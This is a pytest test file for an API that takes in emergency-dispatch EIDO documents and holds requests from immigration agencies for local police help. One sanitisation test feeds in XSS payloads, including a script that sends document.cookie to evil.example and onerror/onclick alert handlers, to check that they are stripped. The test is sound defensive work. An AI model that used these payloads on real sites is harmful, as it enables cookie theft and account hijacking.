"""Intake from NENA EIDO documents through the API: the shared sample adapted, documents written
by hand as a CAD sends them, scripts in the notes, and documents that are not ours."""

from __future__ import annotations

import datetime as dt
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select

from assistgate.app import App
from assistgate.db.base import utcnow
from assistgate.requests.models import Request
from assistgate.web.app import create_web_app
from tests.factories import make_app
from tests.integrations.eido_documents import SAMPLE, adapted_sample, hand_written, ice_agency
from tests.integrations.helpers import bearer, make_token


@pytest.fixture
def web_app(database_url: str, tmp_path: Path) -> Iterator[App]:
    app = make_app(database_url, tmp_path)
    yield app
    app.close()


@pytest.fixture
def client(web_app: App) -> Iterator[TestClient]:
    with TestClient(create_web_app(web_app), base_url="http://127.0.0.1") as c:
        yield c


@pytest.fixture
def token(web_app: App) -> str:
    return make_token(web_app)


def send(client: TestClient, token: str, document: Any) -> httpx.Response:
    response: httpx.Response = client.post("/api/v1/eido", json=document, headers=bearer(token))
    return response


def stored(app: App) -> list[Request]:
    with app.sessions() as session:
        return list(session.scalars(select(Request).order_by(Request.id)))


def test_the_shared_sample_with_an_ice_agency_becomes_a_held_request(
    client: TestClient, web_app: App, token: str
) -> None:
    notes = "<p>ICE agents ask for <b>backup</b> at a traffic stop.</p>"
    response = send(client, token, adapted_sample(notes=notes))
    assert response.status_code == 201, response.text
    answer = response.json()
    assert answer["held"] is True
    assert answer["message"].startswith("Hold the call")
    assert answer["cad_incident_id"] == "LMPD-2021-000042"
    assert answer["understood"] == {
        "agency": "ice-other",
        "agency_evidence": "agencyComponent[1] agencyType 'police.federal.ice'",
        "official_name": "(not given in the EIDO document)",
        "callback_number": "8195551212",
        "location": "0 block of W Cellular Street, Wilmington, DE",
        "requested_actions": ["backup", "traffic_stop"],
    }
    [request] = stored(web_app)
    assert request.identity_check == "cad_interface"
    assert request.received_at == dt.datetime(2021, 4, 30, 18, 40, tzinfo=dt.UTC)
    assert request.caller_words.startswith("ICE agents ask for backup at a traffic stop.")
    assert request.call_taker == "cad"


def test_the_shared_sample_as_published_is_refused_because_it_names_no_immigration_agency(
    client: TestClient, web_app: App, token: str
) -> None:
    response = send(client, token, json.loads(SAMPLE.read_text(encoding="utf-8")))
    assert response.status_code == 422
    [problem] = response.json()["detail"]
    assert problem["loc"] == ["body", "agencyComponent"]
    assert "names a federal immigration agency" in problem["msg"]
    assert stored(web_app) == []


def test_a_cad_document_written_by_hand_is_read_field_by_field(
    client: TestClient, web_app: App, token: str
) -> None:
    response = send(client, token, hand_written())
    assert response.status_code == 201, response.text
    [request] = stored(web_app)
    assert request.cad_incident_id == "LMPD-2026-004211"
    assert request.agency == "ice-ero"
    assert request.official_name == "Deportation Officer K. Marsh (fictional)"
    assert request.official_badge == "ERO Louisville sub-office"
    assert request.callback_number == "+15025550142"
    assert request.location == "1200 block of S 4th St, Louisville, KY"
    assert request.district == "4"
    assert request.requested_actions == ["serve_criminal_warrant", "knock_and_talk"]
    assert request.received_at == dt.datetime(2026, 3, 6, 14, 41, tzinfo=dt.UTC)
    assert "cad.louisvilleky.gov" in request.identity_note


def test_scripts_and_styles_in_the_notes_are_never_kept(
    client: TestClient, web_app: App, token: str
) -> None:
    notes = [
        "<p>Agents ask for a unit to <b>knock</b>.</p>"
        "<script>fetch('https://evil.example/?c=' + document.cookie)</script>"
        "<style>body { display: none }</style>",
        "<div onclick=\"alert(1)\">Second note<script/>alert('self-closing')</script></div>"
        '<img src=x onerror="alert(2)"><script>never closed',
    ]
    assert send(client, token, hand_written(notes=notes)).status_code == 201
    [request] = stored(web_app)
    assert request.caller_words.splitlines()[:2] == [
        "Agents ask for a unit to knock.", "Second note"]  # fmt: skip
    for trace in ("script", "fetch", "cookie", "alert", "display", "onerror", "<", ">"):
        assert trace not in request.caller_words


def test_the_same_incident_sent_again_returns_the_same_request_with_200(
    client: TestClient, web_app: App, token: str
) -> None:
    first = send(client, token, hand_written())
    again = send(client, token, hand_written(notes=["<p>Update: agents left.</p>"]))
    assert (first.status_code, again.status_code) == (201, 200)
    assert again.json()["ref"] == first.json()["ref"]
    assert len(stored(web_app)) == 1
    json_intake = client.post("/api/v1/requests", headers=bearer(token), json={
        "cad_incident_id": "LMPD-2026-004211", "agency": "ice-ero", "official_name": "K. Marsh",
        "location": "1234 S 4th St", "caller_words": "same call", "requested_actions": ["other"],
    })  # fmt: skip
    assert json_intake.status_code == 200, "one incident, whichever way it arrives"


def test_border_patrol_named_only_in_a_jcard_is_recognised(
    client: TestClient, web_app: App, token: str
) -> None:
    agency = ice_agency("sector-7.example", agency_type="police.federal",
                        name="U.S. Border Patrol, Sector 7")  # fmt: skip
    response = send(client, token, hand_written(agency=agency))
    assert response.status_code == 201, response.text
    assert response.json()["understood"]["agency"] == "cbp"


def test_a_cad_clock_ahead_of_ours_is_trusted_no_further_than_now(
    client: TestClient, web_app: App, token: str
) -> None:
    document = hand_written()
    ahead = utcnow() + dt.timedelta(hours=2)
    document["callComponent"][0]["callStartTimestamp"] = ahead.isoformat()
    assert send(client, token, document).status_code == 201
    [request] = stored(web_app)
    assert request.received_at <= utcnow()


@pytest.mark.parametrize(
    ("document", "loc"),
    [
        pytest.param({"eidoVersion": "1.0"}, ["body", "agencyComponent"], id="no-agencies"),
        pytest.param([], ["body"], id="not-an-object"),
        pytest.param({"agencyComponent": [{"agencyType": "police.federal.ice"}]},
                     ["body", "agencyComponent", 0, "agencyType"], id="agency-type-not-a-list"),
        pytest.param({"agencyComponent": [{"agencyType": ["police.federal.ice"]}],
                      "notesComponent": [{"$id": "n1"}]},
                     ["body", "notesComponent", 0, "notesActionComments"], id="note-without-text"),
    ],
)  # fmt: skip
def test_a_malformed_document_is_refused_with_422_saying_where(
    client: TestClient, web_app: App, token: str, document: Any, loc: list[Any]
) -> None:
    response = send(client, token, document)
    assert response.status_code == 422
    assert loc in [p["loc"] for p in response.json()["detail"]], response.json()
    assert stored(web_app) == []


def test_eido_intake_needs_a_token_with_the_write_scope(client: TestClient, web_app: App) -> None:
    assert client.post("/api/v1/eido", json=hand_written()).status_code == 401
    reader = make_token(web_app, scopes=["requests:read"], name="reader")
    assert send(client, reader, hand_written()).status_code == 403
    assert stored(web_app) == []
